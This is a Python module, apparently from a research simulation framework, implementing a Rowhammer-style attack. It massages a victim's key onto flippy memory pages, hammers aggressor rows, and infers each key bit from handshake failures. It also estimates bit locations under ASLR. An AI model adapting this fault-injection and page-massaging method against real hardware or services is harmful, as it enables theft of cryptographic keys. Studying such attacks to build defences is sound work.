"""Online key recovery from handshake outcomes.

The attacker only holds its own process, the victim's network-facing
endpoint and the ability to launch its own copy of the victim program. Every
decision below is made from flips seen on its own pages and from whether a
handshake visibly failed.
"""

from __future__ import annotations

import csv
import io
import logging
import math
from dataclasses import dataclass, field
from typing import Callable, Iterable, Sequence

import numpy as np

from .dram import PAGE_BYTES, Direction
from .memos import AslrPolicy, Process, aslr_place_stack_var
from .profiler import (PROFILE_FILLS, PageClass, PageProfile, ResidentProfile,
                       profile_with_resident_victim)
from .victim import KEY_BITS, KEY_BYTES, HandshakeOutcome, Status

log = logging.getLogger(__name__)

F_MIN = 3
MIN_RESIDENT_RATE = 0.035
CONGRUENCE = 128
SHIFT_BYTES = 16
NOISE_GUARD_BITS = KEY_BITS + CONGRUENCE  # key span across both placements


class ReclaimError(RuntimeError):
    pass


class InsufficientPages(RuntimeError):
    pass


def fault_observed(outcome: HandshakeOutcome, baseline_latency: int) -> bool:
    """Anything visibly different from a clean handshake counts as a fault."""
    return (outcome.status is not Status.ESTABLISHED or not outcome.verified_ok
            or outcome.latency > baseline_latency)


# -- bit decoding ---------------------------------------------------------------

@dataclass
class BitEstimate:
    index: int
    value: int | None
    failures: int
    trials: int
    confidence: float
    direction: Direction | None = None
    p_hat: float = 0.0
    page_id: int = -1
    offline_count: int = 0

    @property
    def conclusive(self) -> bool:
        return self.value is not None


def decode_bit(index: int, failures: int, trials: int, direction: Direction, p_hat: float,
               f_min: int = F_MIN, page_id: int = -1, offline_count: int = 0) -> BitEstimate:
    """Failures point at the flip's source value; none at all point at its sink value."""
    if failures >= f_min:
        value, conf = direction.source, 1.0
    elif failures == 0:
        value, conf = direction.sink, 1.0 - (1.0 - p_hat) ** trials
    else:
        value, conf = None, 0.0
    return BitEstimate(index, value, failures, trials, conf, direction, p_hat, page_id, offline_count)


def inconclusive(index: int, trials: int = 0) -> BitEstimate:
    return BitEstimate(index, None, 0, trials, 0.0)


@dataclass
class RecoveredKey:
    bits: list[BitEstimate]
    pages_used: int = 0
    online_seconds: float = 0.0
    hammer_sessions: int = 0
    handshakes: int = 0
    reclaim_rounds: int = 0

    @property
    def complete(self) -> bool:
        return all(b.conclusive for b in self.bits)

    @property
    def n_decoded(self) -> int:
        return sum(b.conclusive for b in self.bits)

    @property
    def bits_per_hour(self) -> float:
        if self.online_seconds <= 0:
            return 0.0
        return self.n_decoded * 3600.0 / self.online_seconds

    def key_bytes(self) -> bytes | None:
        if not self.complete:
            return None
        out = bytearray(KEY_BYTES)
        for b in self.bits:
            out[b.index // 8] |= b.value << (b.index % 8)
        return bytes(out)

    def accuracy(self, true_key: bytes) -> float:
        """Fraction of the 256 bits decoded correctly; inconclusive bits count as wrong."""
        ok = 0
        for b in self.bits:
            if b.value is not None and b.value == (true_key[b.index // 8] >> (b.index % 8)) & 1:
                ok += 1
        return ok / KEY_BITS


# -- reclaiming ---------------------------------------------------------------------

@dataclass
class ReclaimState:
    target_offset: int
    direction: Direction
    aggressors: tuple[int, ...]
    round_budget: int
    initial_buffer: int = 4
    growth_factor: int = 2
    max_growth_steps: int = 4
    fill: str = "ones"

    @classmethod
    def for_profile(cls, profile: PageProfile, aggressors, rate: float | None = None, **kw) -> "ReclaimState":
        p = rate if rate is not None else profile.delta / profile.iterations
        if p <= 0:
            raise ValueError("page has no flip rate to reclaim with")
        return cls(profile.target_offset, profile.direction, tuple(aggressors), math.ceil(5 / p), **kw)


@dataclass
class ReclaimResult:
    vpage: int
    rounds: int
    growth_steps: int
    buffer_size: int


def reclaim_flippy_page(process: Process, state: ReclaimState) -> ReclaimResult:
    """Allocate a buffer and hammer until the target flip shows up on one of its pages.

    Each buffer size gets ``round_budget`` rounds before the buffer grows. The
    winning page is kept; the rest of the buffer is freed.
    """
    pattern = bytes([0xFF if state.direction.source else 0x00]) * PAGE_BYTES
    buffer: list[int] = []
    rounds = 0

    def grow(n):
        new = process.alloc_pages(n)
        for v in new:
            process.write_page(v, pattern)
        buffer.extend(new)

    grow(state.initial_buffer)
    for step in range(state.max_growth_steps + 1):
        if step:
            grow(len(buffer) * (state.growth_factor - 1))
        members = set(buffer)
        for _ in range(state.round_budget):
            rounds += 1
            dirty = set()
            hit = None
            for f in process.hammer(state.aggressors, state.fill):
                if f.vpage not in members:
                    continue
                dirty.add(f.vpage)
                if f.bit_offset == state.target_offset and f.direction is state.direction and hit is None:
                    hit = f.vpage
            if hit is not None:
                process.free_pages([v for v in buffer if v != hit])
                return ReclaimResult(hit, rounds, step, len(buffer))
            for v in dirty:
                process.write_page(v, pattern)
    process.free_pages(buffer)
    raise ReclaimError(f"target flip not seen in {rounds} rounds")


# -- massaging and probing --------------------------------------------------------

def massage_key_to_page(process: Process, endpoint, vpage: int, malloc_size: int) -> None:
    """Hand ``vpage`` to the victim: free it right before the victim loads its key."""
    if endpoint.running:
        endpoint.stop()
    process.free_pages([vpage])
    endpoint.start(malloc_size)


def malloc_size_for(key_offset: int, heap_base: int) -> int:
    """Attacker-controlled size that puts the key object at ``key_offset``."""
    return (key_offset - heap_base) % PAGE_BYTES


@dataclass
class TrialRecord:
    page_id: int
    bit: int
    fill: str
    shift: int
    trial: int
    outcome: str
    fault: int
    running_failures: int


class _Probe:
    """One placement of the key on a target page, probed by hammer+handshake trials."""

    def __init__(self, attacker: "Attacker", aggressors, page_id):
        self.a = attacker
        self.aggressors = aggressors
        self.page_id = page_id

    def run(self, bit: int, shift: int) -> int:
        a = self.a
        failures = 0
        for fill in PROFILE_FILLS:
            for t in range(a.cfg.trials):
                a.process.hammer(self.aggressors, fill)
                out = a.endpoint.connect()
                a.handshakes += 1
                a.sessions += 1
                fault = fault_observed(out, a.baseline_latency)
                failures += fault
                if a.keep_transcript:
                    a.transcript.append(TrialRecord(self.page_id, bit, fill, shift, t, out.status.value,
                                                    int(fault), failures))
        return failures


@dataclass
class AttackConfig:
    trials: int = 200
    f_min: int = F_MIN
    min_resident_rate: float = MIN_RESIDENT_RATE
    resident_iterations: int = 200
    reclaim_initial_buffer: int = 4
    reclaim_growth_factor: int = 2
    reclaim_max_growth: int = 4
    max_candidates_per_class: int = 8


@dataclass
class Candidate:
    profile: PageProfile
    congruence: int
    key_offset_a: int  # byte offset of the key in the first placement


def plan_candidates(profiles: Iterable[PageProfile]) -> dict[int, list[Candidate]]:
    """Usable pages per congruence class, best first.

    A page works for class ``c = target mod 128`` when the key can sit so the
    target holds bit ``c + 128`` and, shifted 16 bytes later, bit ``c``. Pages
    with other known flippy offsets inside that span are dropped.
    """
    rank = {PageClass.RELIABLE: 0, PageClass.UNSTABLE: 1}
    out: dict[int, list[Candidate]] = {c: [] for c in range(CONGRUENCE)}
    for p in profiles:
        cls = p.page_class
        if cls not in rank or p.tie:
            continue
        t = p.target_offset
        c = t % CONGRUENCE
        if t < CONGRUENCE:
            continue
        o_a = (t - c - CONGRUENCE) // 8
        if o_a + SHIFT_BYTES + KEY_BYTES > PAGE_BYTES:
            continue
        lo, hi = 8 * o_a, 8 * o_a + NOISE_GUARD_BITS
        if any(lo <= o < hi for o in p.other_offsets()):
            continue
        out[c].append(Candidate(p, c, o_a))
    for c in out:
        out[c].sort(key=lambda k: (rank[k.profile.page_class], -k.profile.delta, k.profile.page_id))
    return out


class Attacker:
    """Drives reclaim, massage and probing across congruence classes."""

    def __init__(self, process: Process, endpoint, launch_copy: Callable[[int], object],
                 profiles: Iterable[PageProfile], cfg: AttackConfig = AttackConfig(),
                 keep_transcript: bool = True):
        self.process = process
        self.endpoint = endpoint
        self.launch_copy = launch_copy
        self.profiles = list(profiles)
        self.cfg = cfg
        self.keep_transcript = keep_transcript
        self.transcript: list[TrialRecord] = []
        self.resident: dict[int, ResidentProfile] = {}
        self.baseline_latency = 0
        self.channel_alive = False
        self.heap_base = 0
        self.handshakes = 0
        self.sessions = 0
        self.reclaim_rounds = 0
        self.online_seconds = 0.0
        self._vpage = {p.page_id: p.page_id for p in self.profiles}
        self._given_away: set[int] = set()

    # -- setup ----------------------------------------------------------------
    def calibrate(self) -> bool:
        """Learn the heap base and whether a corrupted key is visible at all, using the attacker's own copy."""
        copy = self.launch_copy(0)
        try:
            self.heap_base = copy.key_offset
            clean = copy.connect()
            self.baseline_latency = clean.latency
            copy.corrupt_resident_bit(0)
            faulty = copy.connect()
        finally:
            copy.stop()
        self.channel_alive = (fault_observed(faulty, self.baseline_latency)
                              and not fault_observed(clean, self.baseline_latency))
        return self.channel_alive

    def _aggressors(self, profile: PageProfile) -> tuple[int, ...] | None:
        current = (self._vpage.get(p, p) for p in profile.aggressors)
        owned = [p for p in current if p not in self._given_away and self.process.owns(p)]
        rows = {self.process.row_index(p) for p in owned}
        return tuple(owned) if len(rows) == 2 else None

    def _clocked(self, fn, *args):
        t0 = self.process.clock
        try:
            return fn(*args)
        finally:
            self.online_seconds += self.process.clock - t0

    # -- per page ----------------------------------------------------------------
    def check_resident(self, cand: Candidate, aggressors) -> ResidentProfile | None:
        """Re-profile the page under the attacker's copy of the victim, then reclaim it."""
        prof = cand.profile
        vpage = self._vpage[prof.page_id]
        s_a = malloc_size_for(cand.key_offset_a, self.heap_base)
        probe = prof.target_offset - 8 * cand.key_offset_a
        self.process.free_pages([vpage])
        copy = self.launch_copy(s_a)
        try:
            res = profile_with_resident_victim(self.process, aggressors, probe, prof.direction, copy,
                                               self.cfg.resident_iterations, prof.page_id)
        finally:
            copy.stop()
        self.resident[prof.page_id] = res
        state = ReclaimState.for_profile(prof, aggressors, initial_buffer=self.cfg.reclaim_initial_buffer,
                                         growth_factor=self.cfg.reclaim_growth_factor,
                                         max_growth_steps=self.cfg.reclaim_max_growth)
        try:
            got = self._clocked(reclaim_flippy_page, self.process, state)
        except ReclaimError:
            log.info("lost page %d after resident check", prof.page_id)
            self._given_away.add(vpage)
            return None
        self.reclaim_rounds += got.rounds
        self.sessions += got.rounds
        self._vpage[prof.page_id] = got.vpage
        return res

    def probe_congruent_pair(self, cand: Candidate, aggressors, p_hat: float,
                             bits: Sequence[int]) -> list[BitEstimate]:
        """Place the key twice on the page (16 bytes apart) and probe the wanted bits of the pair."""
        prof = cand.profile
        c = cand.congruence
        s_a = malloc_size_for(cand.key_offset_a, self.heap_base)
        vpage = self._vpage[prof.page_id]
        self._given_away.add(vpage)
        probe = _Probe(self, aggressors, prof.page_id)
        out = []
        placed = False
        for bit, shift in ((c + CONGRUENCE, 0), (c, SHIFT_BYTES)):
            if bit not in bits:
                continue
            if not placed:
                massage_key_to_page(self.process, self.endpoint, vpage, s_a + shift)
                placed = True
            else:
                self.endpoint.restart(s_a + shift)
            f = self._clocked(probe.run, bit, shift)
            out.append(decode_bit(bit, f, self.cfg.trials, prof.direction, p_hat, self.cfg.f_min,
                                  prof.page_id, prof.delta))
        return out

    # -- whole key -----------------------------------------------------------------
    def recover_key(self) -> RecoveredKey:
        if not self.calibrate():
            log.warning("no observable fault channel; every bit is inconclusive")
            return RecoveredKey([inconclusive(i) for i in range(KEY_BITS)])
        plan = plan_candidates(self.profiles)
        result: dict[int, BitEstimate] = {}
        pages_used = 0
        for c in range(CONGRUENCE):
            pending = [c + CONGRUENCE, c]
            last: dict[int, BitEstimate] = {}
            for cand in plan[c][: self.cfg.max_candidates_per_class]:
                aggressors = self._aggressors(cand.profile)
                if aggressors is None:
                    continue
                res = self.check_resident(cand, aggressors)
                if res is None or not res.suitable or res.rate < self.cfg.min_resident_rate:
                    continue
                pages_used += 1
                for est in self.probe_congruent_pair(cand, aggressors, res.rate, pending):
                    last[est.index] = est
                    if est.conclusive:
                        result[est.index] = est
                pending = [b for b in pending if b not in result]
                if not pending:
                    break
            for b in pending:
                result[b] = last.get(b, inconclusive(b))
        return RecoveredKey([result[i] for i in range(KEY_BITS)], pages_used, self.online_seconds,
                            self.sessions, self.handshakes, self.reclaim_rounds)

    def transcript_csv(self) -> str:
        out = io.StringIO()
        w = csv.writer(out, lineterminator="\n")
        w.writerow(["page_id", "bit", "fill", "shift", "trial", "outcome", "fault", "running_failures"])
        for r in self.transcript:
            w.writerow([r.page_id, r.bit, r.fill, r.shift, r.trial, r.outcome, r.fault, r.running_failures])
        return out.getvalue()


# -- ASLR ---------------------------------------------------------------------------

def infer_bit_location_under_aslr(n: int, flip_bit_offset: int, low_bits: int) -> list[int]:
    """Candidate bit positions inside an ``n``-byte stack variable for a flip at a page bit offset.

    Only the low four address bits survive randomization, so every position
    whose byte agrees with the flip's byte modulo 16 is possible.
    """
    if n < 16 or n % 16:
        raise ValueError("variable size must be a positive multiple of 16 bytes")
    byte, bit = divmod(flip_bit_offset, 8)
    first = (byte - low_bits) % 16
    return [8 * j + bit for j in range(first, n, 16)]


def aslr_guess_frequency(n: int, trials: int, rng: np.random.Generator,
                         policy: AslrPolicy = AslrPolicy()) -> float:
    """How often a uniform guess among the candidates names the flipped bit."""
    if trials < 1:
        raise ValueError("trials must be >= 1")
    hits = 0
    for _ in range(trials):
        off = aslr_place_stack_var(n, rng, policy)
        true_bit = int(rng.integers(8 * n))
        cands = infer_bit_location_under_aslr(n, 8 * off + true_bit, policy.low_bits)
        hits += cands[int(rng.integers(len(cands)))] == true_bit
    return hits / trials
